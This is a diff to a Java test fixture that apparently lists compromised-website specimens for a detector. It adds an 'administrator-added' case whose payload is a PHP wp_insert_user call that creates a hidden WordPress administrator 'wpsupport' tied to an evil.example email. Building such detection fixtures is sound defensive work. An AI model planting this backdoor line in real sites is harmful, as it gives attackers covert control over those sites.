@@ -12,6 +12,14 @@ final class Unseen {
   static List<Specimen> all() {
     return List.of(
         unseen(
+            "administrator-added",
+            "somebody made himself an administrator; from one look nobody knows who was there"
+                + " before",
+            site ->
+                site.inside(
+                    "wp_insert_user(['user_login' => 'wpsupport', 'user_pass' => 'x', 'user_email'"
+                        + " => 'x@evil.example', 'role' => 'administrator']);")),
+        unseen(
             "mail-does-not-leave",
             "the release cannot send mail; forms say “thank you” all the same",
             site ->
